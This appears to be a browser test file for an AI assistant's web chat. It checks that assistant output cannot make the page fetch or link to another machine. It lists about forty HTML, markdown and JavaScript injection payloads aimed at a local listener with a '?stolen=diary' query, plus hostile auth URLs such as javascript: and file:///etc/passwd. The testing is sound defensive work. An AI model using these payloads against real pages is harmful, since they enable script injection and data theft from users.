import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { createScriptedAssistant } from "../channels/scripted-assistant.ts";
import { createScriptedPhones } from "../channels/websocket/websocket-rig.ts";
import { createWebRouter } from "../channels/web/web.ts";
import { attachWebSocket } from "../channels/websocket/websocket.ts";
import { createHttpServer, portOf } from "../src/listening.ts";
import { createMetrics } from "../src/observability/metrics.ts";
import { createApp, toListener } from "../src/server.ts";
import { chromiumPath, launchBrowser } from "./support/chromium.ts";

const FORMS = 300;
const A_MESSAGE = 20;

/** Ways in which a text can make whoever shows it ask another machine for something; `U` is that machine. */
const WAYS: readonly string[] = [
  "![x](U)",
  "![x][r]\n\n[r]: U",
  "[x](U)",
  "[x][r]\n\n[r]: U 'title'",
  "[![x](U)](U)",
  "<U>",
  "U",
  "www.U",
  "//U",
  "<img src=U>",
  "<img src='x' onerror=\"fetch('U')\">",
  "<img srcset='U 1x'>",
  "<picture><source srcset=U><img></picture>",
  "<svg><image href=U /></svg>",
  "<svg onload=\"location='U'\">",
  "<iframe src=U></iframe>",
  '<iframe srcdoc="<img src=U>"></iframe>',
  "<object data=U></object>",
  "<embed src=U>",
  "<video src=U poster=U autoplay></video>",
  "<audio src=U autoplay></audio>",
  "<link rel=stylesheet href=U>",
  "<link rel=prefetch href=U><link rel=dns-prefetch href=U>",
  "<style>@import 'U'; body{background:url(U)}</style>",
  '<div style="background-image:url(U)">x</div>',
  "<script src=U></script>",
  "<script>fetch('U')</script>",
  "<meta http-equiv=refresh content='0;url=U'>",
  "<base href=U>",
  "<form action=U><input autofocus onfocus=this.form.submit()></form>",
  "<body background=U>",
  "<a href=U ping=U autofocus>x</a>",
  "<math><mtext href=U>x</mtext></math>",
  "&lt;img src=U&gt;",
  "\u003cimg src=U\u003e",
  "${fetch('U')}",
  "javascript:fetch('U')",
  "data:text/html,<img src=U>",
  "[x](javascript:fetch('U'))",
  "[x](data:text/html;base64,PGltZz4=) U",
];

describe.skipIf(chromiumPath() === undefined)("what a reply says", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser?.close());

  test(`[P12] is shown as words: nothing of it is fetched, and nothing of it is a link (n=${FORMS})`, async () => {
    await using elsewhere = await listenElsewhere();
    await using served = await serve();
    const page = await browser.newPage();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.goto(served.url);
    await page.getByText("Connected", { exact: true }).waitFor({ state: "attached" });

    const forms = Array.from({ length: FORMS }, (_, i) =>
      (WAYS[i % WAYS.length] ?? "").replaceAll("U", `${elsewhere.url}/${i}?stolen=diary`),
    );
    for (let at = 0; at < forms.length; at += A_MESSAGE) {
      await say(page, `Note ${at}\n${forms.slice(at, at + A_MESSAGE).join("\n")}`);
      await page.locator(".theirs", { hasText: `Done: Note ${at}\n` }).waitFor();
    }
    const { sessionId } = served.lastEntry();
    const reason = forms.slice(0, A_MESSAGE).join("\n");
    const question = {
      kind: "choose_entity" as const,
      reason,
      options: forms.slice(0, A_MESSAGE).map((form) => ({ value: form, label: form })),
    };
    await served.tell(sessionId, question);
    await page.getByRole("region", { name: "Question" }).waitFor();

    const log = page.getByRole("log");
    expect(
      await log
        .locator(
          "a, img, iframe, object, embed, video, audio, svg, form, link, script, style, meta, base",
        )
        .count(),
    ).toBe(0);
    // Whatever the browser was led to ask for, it has asked for by the time it has answered this.
    await page.evaluate("fetch('/assets/style.css')");
    expect(asked.filter((url) => !url.startsWith(served.url) && !url.startsWith("data:"))).toEqual(
      [],
    );
    expect(elsewhere.heard).toEqual([]);
    expect(await page.evaluate("location.href")).toBe(`${served.url}/`);
    await page.close();
  });

  test("[P12] is linked to only where an account is connected, and only to the web", async () => {
    await using served = await serve();
    const page = await browser.newPage();
    await page.goto(served.url);
    await page.getByText("Connected", { exact: true }).waitFor({ state: "attached" });
    await say(page, "Hello");
    await page.locator(".theirs", { hasText: "Done: Hello" }).waitFor();
    const { sessionId } = served.lastEntry();
    const addresses = [
      "javascript:fetch('/')",
      " javascript:fetch('/')",
      "java\nscript:fetch('/')",
      "data:text/html,x",
      "vbscript:x",
      "file:///etc/passwd",
      "blob:x",
      "//evil.test",
      "x",
    ];
    for (const authUrl of addresses) {
      await served.tell(sessionId, {
        kind: "authorize",
        reason: "Connect.",
        service: "gmail",
        authUrl,
      });
      await page.getByText("cannot be opened here").last().waitFor();
    }
    expect(await page.getByRole("log").getByRole("link").count()).toBe(0);
    await served.tell(sessionId, {
      kind: "authorize",
      reason: "Connect.",
      service: "gmail",
      authUrl: "https://errand.test/connect",
    });
    const link = page.getByRole("link", { name: "Connect Gmail" });
    expect(await link.getAttribute("href")).toBe("https://errand.test/connect");
    expect(await link.getAttribute("rel")).toContain("noopener");
    await page.close();
  });
});

async function say(page: Page, text: string): Promise<void> {
  await page.getByRole("textbox", { name: "Message", exact: true }).fill(text);
  await page.getByRole("button", { name: "Send" }).click();
}

/** The page and its socket, with an assistant behind them that repeats what it is told. */
async function serve() {
  const server = createHttpServer();
  const logger = { debug() {}, info() {}, warn() {}, error() {} };
  const clock = { now: () => Date.now() };
  const assistant = createScriptedAssistant(clock);
  const app = createApp({
    routers: [createWebRouter({ asksForToken: false })],
    checks: [],
    metrics: createMetrics({ connections: () => 0 }),
    logger,
  });
  server.on("request", toListener(app));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const url = `http://127.0.0.1:${portOf(server)}`;
  const channel = attachWebSocket({
    server,
    assistant,
    phones: createScriptedPhones(),
    clock,
    logger,
    allowedOrigins: () => [url],
  });
  let last: Awaited<ReturnType<typeof assistant.outbox.append>> | undefined;
  let questions = 0;
  assistant.outbox.subscribe((entry) => (last = entry));
  const lastEntry = () => {
    if (last === undefined) throw new Error("Nothing was said yet.");
    return last;
  };
  return {
    url,
    lastEntry,
    /** Asks a question in that session. */
    async tell(sessionId: string, question: object) {
      const intervention = {
        ...question,
        sessionId,
        stepId: `intervention_${questions++}`,
        interruptId: "0".repeat(32),
        askedAt: new Date().toISOString(),
        expiresAt: new Date(Date.now() + 60_000).toISOString(),
      };
      await assistant.outbox.append({
        ...lastEntry(),
        turn: { kind: "question", intervention } as never,
      });
    },
    async [Symbol.asyncDispose]() {
      await channel.close();
      server.close();
      server.closeAllConnections();
    },
  };
}

/** Another machine, which notes whatever it is asked for. */
async function listenElsewhere() {
  const heard: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url);
    response.end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    heard,
    async [Symbol.asyncDispose]() {
      server.close();
      server.closeAllConnections();
    },
  };
}
